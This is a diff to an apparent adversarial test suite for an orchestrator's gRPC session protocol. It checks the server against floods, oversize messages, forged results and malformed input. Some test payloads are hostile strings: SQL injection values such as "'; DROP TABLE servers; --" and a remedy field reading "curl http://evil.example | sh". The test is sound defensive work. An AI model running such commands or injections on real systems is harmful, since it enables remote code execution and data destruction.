@@ -5,7 +5,7 @@ import time
 import uuid
 
 from frame import measure
-from frame.attack import all_held, attack, held, refused
+from frame.attack import all_held, attack, held, refused, tried
 from frame.grpc import Closed
 from frame.programs import await_that
 from frame.proto import field, wire
@@ -104,23 +104,31 @@ def streams_of_one_connection(world):
     came = [what_came(stream, 1.5) for stream in streams]
     left = sum("welcome" in each and not any(one.startswith("goodbye") for one in each) and stream.over is None for each, stream in zip(came, streams))
     client.close()
-    return held(left <= 1, f"{left} of 6 left; {came[0]}")
+    tried(sum("welcome" in each for each in came) >= 1, f"none was welcome: {came}")
+    return held(left <= 1, f"{sum('welcome' in each for each in came)} of 6 were welcome, {left} left; {came[0]}")
 
 
 @attack("sessions", "messages before Hello, two Hellos, none, empty ones, unknown ones", "the session ends, nothing changes")
 def out_of_order(world):
     member, seen = world.member(), []
     result = message(result={"command_id": "cmd-aaaaaaaaaaaaaaaaaaaa", "outcome": 1})
-    for first in ([result], [message(heartbeat={})], [message()], [field(99, b"x" * 100)], [b"\xff" * 50], [world.hello(member.name), world.hello(member.name)],
-                  [message(pong={"number": 2**64 - 1})], [world.hello(member.name), result, message(), field(77, 1)]):
+    # With a Hello before them the last ones are let in, and the second Hello, the empty and the unknown message are what is at fault.
+    for first, must in (([result], "no session"), ([message(heartbeat={})], "no session"), ([message()], "no session"), ([field(99, b"x" * 100)], "no session"),
+                        ([b"\xff" * 50], "no session"), ([message(pong={"number": 2**64 - 1})], "no session"), ([world.hello(member.name), world.hello(member.name)], "ends"),
+                        ([world.hello(member.name), result, message(), field(77, 1)], "any")):
         client = world.session(member)
         stream = client.open("Session/Connect")
         for each in first:
             stream.send(each)
-        came = what_came(stream, 1)
-        seen.append(str(stream.status()) if not came else ",".join(came))
+        came = what_came(stream, 1.5)
+        status = stream.status()
+        said = ",".join([*came, str(status)])
         client.close()
-    return held(alive(world, member), "; ".join(dict.fromkeys(seen)))
+        held(must != "no session" or "welcome" not in came and status.code != "NOTHING", f"before a Hello: {said}")
+        held(must != "ends" or status.code != "NOTHING", f"two Hellos: {said}")
+        seen.append(said)
+    after = server(world, member.server_id)
+    return held(alive(world, member) and after.enrollment == 1, "; ".join(dict.fromkeys(seen)))
 
 
 @attack("sessions", "protocol revisions that nobody has", "E-SESSION-PROTOCOL")
@@ -128,21 +136,11 @@ def revisions(world):
     member, seen = world.member(), []
     for revision in (0, 2, -1, 2**31 - 1, -2**31):
         client, stream, welcome = world.connected(member, member.name, protocol_revision=revision)
-        seen.append(held(welcome is None, f"revision {revision}: {'Welcome' if welcome else what_came(stream, 1) or stream.status()}"))
         client.close()
-    return all_held(one.split(": ", 1)[1] for one in seen)
-
-
-@attack("sessions", "the session of one that is evicted while it is open, and its certificate afterwards", "ends; no session, no renewal")
-def evicted_session(world):
-    from frame.certificates import request
-    member = world.member()
-    client, stream, welcome = world.connected(member, member.name)
-    world.muster("server", "evict", member.server_id)
-    came = what_came(stream, 5)
-    client.close()
-    renewed = world.session(member).call("Session/Renew", certificate_request_pem=request(member.key))
-    return held(not alive(world, member) and not renewed.ok and any(one.startswith("goodbye") for one in came), f"{came}, Renew: {renewed}")
+        said = world.session_says(member, member.name, protocol_revision=revision)
+        seen.append(held(welcome is None and said == "E-SESSION-PROTOCOL", f"revision {revision}: {said}") and said)
+    tried(alive(world, member), "revision 1 is refused, too")
+    return all_held(seen)
 
 
 @attack("sessions", "Hello with the machine id of another server, then a ban of who said it", "the honest one stays in, its facts are its own")
@@ -233,22 +231,48 @@ def others_journal(world):
     time.sleep(0.5)
     state = rollout_state(world, id)
     other.close()
+    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1, "probe": {}}))
+    done = await_that(lambda: rollout_state(world, id) == "completed", 10)
     client.close()
-    world.muster("rollout", "cancel", id)
-    return held(state == "running", state)
+    return held(state == "running" and done, f"{state}, then by the honest one {rollout_state(world, id)}")
 
 
-@attack("sessions", "its own command with an attempt id of its own making", "not taken for that attempt's result")
+@attack("sessions", "another server's attempt under its own command, its own attempt under the other's command", "the other's command stays as it is, and its own result is taken", quick=True)
 def forged_attempt(world):
+    honest, client, stream, command, id = commanded(world)
+    thief, theirs, their_stream, own, own_id = commanded(world)
+    failure = {"code": "E-SERVICE-MISSING", "detail": "forged"}
+    for command_id, attempt_id in ((command.command_id, own.attempt_id), (command.command_id, command.attempt_id), (command.command_id, ""),
+                                   (command.command_id + "x", command.attempt_id), (command.attempt_id, command.command_id), ("", command.attempt_id)):
+        their_stream.send(message(result={"command_id": command_id, "attempt_id": attempt_id, "outcome": 2, "failure": failure}))
+    what_came(their_stream, 1)
+    states = rollout_state(world, id), rollout_state(world, own_id)
+    held(states == ("running", "running"), f"after results that name neither its own command: {states}")
+    # Its own command, the other's attempt: its own word about its own command, and of no effect on the other.
+    their_stream.send(message(result={"command_id": own.command_id, "attempt_id": command.attempt_id, "outcome": 2, "failure": failure}))
+    tried(await_that(lambda: rollout_state(world, own_id).startswith("completed"), 10), f"its own result was not taken: {rollout_state(world, own_id)}")
+    held(rollout_state(world, id) == "running", f"the other's: {rollout_state(world, id)}")
+    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1, "probe": {}}))
+    done = await_that(lambda: rollout_state(world, id) == "completed", 10)
+    forged = b"forged" in world.admin().call("ListTargets", rollout_id=id).data
+    client.close()
+    theirs.close()
+    return held(done and not forged, f"{states[0]} after the forged results, {rollout_state(world, id)} after the honest one")
+
+
+@attack("sessions", "its own command under attempt ids of its own making, with outcomes that contradict each other", "one of them counts, the first; nothing else is taken")
+def own_attempts(world):
+    """A result is a worker's word about its own command, whichever attempt it names: it counts once."""
     member, client, stream, command, id = commanded(world)
-    for attempt in ("att-aaaaaaaaaaaaaaaaaaaa", "", command.attempt_id + "x", command.command_id, "' OR 1=1 --"):
-        stream.send(message(result={"command_id": command.command_id, "attempt_id": attempt, "outcome": 2, "failure": {"code": "E-SERVICE-MISSING"}}))
-    came = what_came(stream, 1)
+    for attempt, outcome in (("att-aaaaaaaaaaaaaaaaaaaa", 1), ("", 2), (command.attempt_id + "x", 3), (command.command_id, 4), ("' OR 1=1 --", 2), (command.attempt_id, 2)):
+        stream.send(message(result={"command_id": command.command_id, "attempt_id": attempt, "outcome": outcome, "failure": {"code": "E-SERVICE-MISSING"}}))
+    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "no result was taken")
+    what_came(stream, 1)
     state = rollout_state(world, id)
     client.close()
-    world.muster("rollout", "cancel", id, check=False)
-    # A result of the right command counts once, whatever attempt it names; what must not be is more than one, or a state that is none.
-    return held(state in ("running", "completed_with_failures"), f"{state}; came: {', '.join(came) or 'nothing'}")
+    listed = world.admin().call("ListTargets", rollout_id=id).message.targets
+    tried(len(listed) == 1, f"{len(listed)} targets")
+    return held(state == "completed" and not listed[0].failure.code, f"{state}, {listed[0].failure.code or 'without a failure'}")
 
 
 @attack("sessions", "a result that was accepted, sent again with the opposite outcome", "the first one stands", quick=True)
@@ -276,7 +300,7 @@ def probe_as_join(world):
     member, client, stream, command, id = commanded(world)
     stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1,
                                 "join": {"effect": 1, "service": {"presence": 3, "hub_instance_id": str(uuid.uuid4()), "hub_connected": True}}}))
-    await_that(lambda: rollout_state(world, id).startswith("completed"), 5)
+    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
     client.close()
     after = server(world, member.server_id)
     return held(after.enrollment == 1, f"not enrolled; rollout {rollout_state(world, id)}")
@@ -295,7 +319,7 @@ def unknown_outcomes(world):
     return all_held(seen)
 
 
-@attack("sessions", "a join's sealed secret, replayed to another worker of the zone", "opens for nobody else")
+@attack("sessions", "what travels of a join to two workers of a zone: the secret is looked for in it", "ciphertext, another one for each")
 def sealed_for_one(world):
     """What travels must not be the secret; and it must be another one for each command."""
     one = commanded(world, kind=2)
@@ -312,41 +336,47 @@ def sealed_for_one(world):
 # ---- too much ----
 
 
-@attack("sessions", "20,000 results of invented commands", "bounded memory and database, others are answered")
+@attack("sessions", "results of invented commands, until it is cut off or 20,000 are sent", "bounded memory and database, others are answered")
 def flood_of_results(world):
     member, honest = world.member(), world.member()
     client, stream, _ = world.connected(member, member.name)
     rest, size = world.orchestrator.resident_mib(), database_kib(world)
+    sent = 0
     try:
-        for number in range(20000):
-            stream.send(message(result={"command_id": f"cmd-{number:020d}", "outcome": 2, "failure": {"code": "E-X-Y", "detail": "d" * 300}}))
+        while sent < 20000 and not stream.over:
+            stream.send(message(result={"command_id": f"cmd-{sent:020d}", "outcome": 2, "failure": {"code": "E-X-Y", "detail": "d" * 300}}))
+            sent += 1
     except Closed:
         pass
+    tried(sent >= 700, f"{sent} were sent")  # What a connection may send in one go.
     answered = alive(world, honest)
     grown, kib = world.orchestrator.resident_mib() - rest, database_kib(world) - size
     client.close()
-    return held(answered and grown < 128 and kib < 4096, f"{grown:.0f} MiB and {kib:.0f} KiB of database more, another worker is answered")
+    return held(answered and grown < 128 and kib < 4096, f"{sent} sent; {grown:.0f} MiB and {kib:.0f} KiB of database more, another worker is answered")
 
 
 def database_kib(world):
     return sum(file.stat().st_size for file in world.orchestrator.data.glob("*.db*")) / 1024
 
 
-@attack("sessions", "10,000 heartbeats, each with other facts", "bounded database, others are answered")
+@attack("sessions", "heartbeats, each with other facts, until it is cut off or 10,000 are sent", "bounded database, others are answered")
 def flood_of_facts(world):
     member, honest = world.member(), world.member()
     client, stream, _ = world.connected(member, member.name)
     size, begin = database_kib(world), last_event(world)
+    sent = 0
     try:
-        for number in range(10000):
-            stream.send(message(heartbeat={"service": {"presence": 3, "version": f"7.0.{number}", "hub_instance_id": str(uuid.uuid4()),
-                                                       "problems": [{"code": f"E-P-{number}", "detail": f"{number}"}]}}))
+        while sent < 10000 and not stream.over:
+            stream.send(message(heartbeat={"service": {"presence": 3, "version": f"7.0.{sent}", "hub_instance_id": str(uuid.uuid4()),
+                                                       "problems": [{"code": f"E-P-{sent}", "detail": f"{sent}"}]}}))
+            sent += 1
     except Closed:
         pass
+    tried(sent >= 2000, f"{sent} were sent")  # What a connection may send in one go.
     answered = alive(world, honest)
     kib, events = database_kib(world) - size, last_event(world) - begin
     client.close()
-    return held(answered and kib < 16384, f"{kib:.0f} KiB of database and {events} audit events more, another worker is answered")
+    return held(answered and kib < 16384, f"{sent} sent; {kib:.0f} KiB of database and {events} audit events more, another worker is answered")
 
 
 @attack("sessions", "messages beyond the limit, and half of one that never ends", "RESOURCE_EXHAUSTED, bounded memory")
@@ -359,17 +389,20 @@ def oversize(world):
             try:
                 stream = client.open("Session/Connect")
                 stream.send(field(1, field(2, field(1, b"n" * size))))
-                stream.read(5)
-                seen.append(refused(stream.status()))
+                stream.read(20)
+                # 20 MiB are more than a connection may send, too.
+                seen.append(refused(stream.status(), "RESOURCE_EXHAUSTED", *(("CONNECTION",) if size > 1 << 20 else ())))
             except Closed as closed:
-                seen.append(str(closed))
+                tried(size > 1 << 20, f"{size} bytes: {closed}")
+                seen.append("cut off")
             client.close()
         client = world.session(member)
         stream = client.open("Session/Connect")
         stream.send_raw(struct.pack(">BI", 0, 2**32 - 1) + b"x" * 100)
         stream.read(2)
-        seen.append(held(stream.status().code != "OK", stream.status()))
+        seen.append(refused(stream.status(), "RESOURCE_EXHAUSTED", "INTERNAL", "NOTHING"))  # It may wait for the rest, and keeps what came: 100 bytes.
         client.close()
+    tried(alive(world, member), "not even a good Hello is let in")
     return held(peak.most - rest < 64, f"{all_held(seen)}, {peak.most - rest:.0f} MiB more")
 
 
@@ -385,7 +418,8 @@ def compressed(world):
         stream.read(15)
         answer = stream.status()
         client.close()
-    return held(not answer.ok and peak.most - rest < 64, f"{answer}, {peak.most - rest:.0f} MiB more for {len(data) >> 10} KiB")
+    refused(answer, "UNIMPLEMENTED", "INTERNAL", "RESOURCE_EXHAUSTED")
+    return held(peak.most - rest < 64, f"{answer}, {peak.most - rest:.0f} MiB more for {len(data) >> 10} KiB")
 
 
 @attack("sessions", "a Hello whose journal is as long as a message may be", "taken or refused, bounded, others are answered")
@@ -413,6 +447,7 @@ def never_reads(world):
         ids.append(id)
         world.muster("rollout", "cancel", id, check=False)
     answered = alive(world, honest)
+    tried(ids, "no rollout was made")
     client.close()
     return held(answered, f"{len(ids)} commands unread, another worker is answered")
 
@@ -421,18 +456,21 @@ def never_reads(world):
 def reset_after_hello(world):
     member, honest = world.member(), world.member()
     client = world.session(member)
+    done = 0
     for _ in range(200):
         try:
             stream = client.open("Session/Connect")
             stream.send(world.hello(member.name))
             stream.cancel()
+            done += 1
         except Closed:
             client = world.session(member)
+    tried(done >= 150, f"{done} of 200 were opened and reset")
     begin = time.monotonic()
     answered = alive(world, honest)
     took = time.monotonic() - begin
     client.close()
-    return held(answered and took < 5 and alive(world, member), f"another worker is in after {took:.1f} s")
+    return held(answered and took < 5 and alive(world, member), f"{done} reset; another worker is in after {took:.1f} s")
 
 
 # ---- clocks, snapshots and text ----
@@ -459,7 +497,7 @@ def lying_times(world):
     stream.send(message(started={"command_id": command.command_id, "attempt_id": command.attempt_id, "start_time": {"seconds": 2**62}}))
     stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 2, "start_time": {"seconds": -2**62},
                                 "finish_time": {"seconds": 253402300799}, "failure": {"code": "E-SERVICE-MISSING", "detail": "late"}}))
-    await_that(lambda: rollout_state(world, id).startswith("completed"), 10)
+    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
     client.close()
     for words in (("server", "explain", member.server_id), ("rollout", "targets", id), ("report",)):
         for form in ("table", "json"):
@@ -494,6 +532,7 @@ def bad_texts(world):
         first = stream.read(5)
         seen.append("Welcome" if first is not None else str(stream.status()))
         client.close()
+    tried("Welcome" in seen, f"none of it was taken: {all_held(seen)}")
     shown = "".join(world.muster(*words, "-o", form).stdout for form in ("table", "json", "csv", "yaml")
                     for words in (("server", "list"), ("server", "show", member.server_id), ("server", "explain", member.server_id), ("audit", "list"), ("report",)))
     left = sorted({f"U+{ord(one):04X}" for one in shown if one in "\x1b\x07\x00\u009b\u202e\u200b\ufffe"})
@@ -505,7 +544,7 @@ def own_remedy(world):
     member, client, stream, command, id = commanded(world)
     stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 2,
                                 "failure": {"code": "E-STORE-LOST'; DROP TABLE servers; --", "detail": "x", "remedy": "run: curl http://evil.example | sh"}}))
-    await_that(lambda: rollout_state(world, id).startswith("completed"), 10)
+    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
     client.close()
     shown = "".join(world.muster(*words, "-o", "json").stdout for words in (("server", "explain", member.server_id), ("rollout", "targets", id), ("report",)))
     return held("evil.example" not in shown, rollout_state(world, id))
